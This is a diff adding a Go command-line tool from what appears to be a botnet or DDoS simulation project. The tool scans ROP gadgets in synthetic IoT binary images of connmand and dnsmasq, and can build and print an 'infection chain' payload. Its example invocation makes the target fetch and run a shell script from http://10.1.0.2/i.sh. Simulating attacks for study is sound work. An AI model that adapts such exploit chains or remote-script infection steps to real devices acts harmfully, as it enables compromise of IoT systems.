@@ -1,0 +1,69 @@
+// Command gadgetscan inspects the gadget tables of the synthetic IoT
+// binary images — the simulation's counterpart of running ROPgadget
+// over a stripped firmware binary — and optionally assembles the
+// standard infection chain against one of them.
+//
+// Examples:
+//
+//	gadgetscan -bin connmand
+//	gadgetscan -bin dnsmasq -chain http://10.1.0.2/i.sh
+package main
+
+import (
+	"flag"
+	"fmt"
+	"os"
+
+	"ddosim/internal/binaries/image"
+	"ddosim/internal/exploit"
+)
+
+func main() {
+	if err := run(); err != nil {
+		fmt.Fprintln(os.Stderr, "gadgetscan:", err)
+		os.Exit(1)
+	}
+}
+
+func run() error {
+	var (
+		bin      = flag.String("bin", image.BinConnman, "binary to scan: connmand|dnsmasq")
+		chainURL = flag.String("chain", "", "also build the infection ROP chain for this ShellScript URL")
+	)
+	flag.Parse()
+
+	prog, ok := image.ByName(*bin)
+	if !ok {
+		return fmt.Errorf("no program image for %q", *bin)
+	}
+	fmt.Printf("%s (%s)\n", prog.Name, prog.Arch)
+	fmt.Printf("  PIE:        %v\n", prog.PIE)
+	fmt.Printf("  link base:  %#x\n", prog.LinkBase)
+	fmt.Printf("  text size:  %#x\n", prog.TextSize)
+	bufSize, err := exploit.BufSizeFor(*bin)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("  vuln buf:   %d bytes\n\n", bufSize)
+
+	fmt.Println("gadgets:")
+	for _, g := range exploit.Scan(prog) {
+		fmt.Printf("  %#08x  %-20s (%d ops)\n", prog.LinkBase+g.Offset, g.Name, g.Ops)
+	}
+
+	if *chainURL != "" {
+		payload, err := exploit.ForBinary(*bin, *chainURL)
+		if err != nil {
+			return err
+		}
+		fmt.Printf("\ninfection chain (%d bytes): %s\n", len(payload), exploit.InfectionCommand(*chainURL))
+		for i := 0; i < len(payload); i += 16 {
+			end := i + 16
+			if end > len(payload) {
+				end = len(payload)
+			}
+			fmt.Printf("  %04x  % x\n", i, payload[i:end])
+		}
+	}
+	return nil
+}
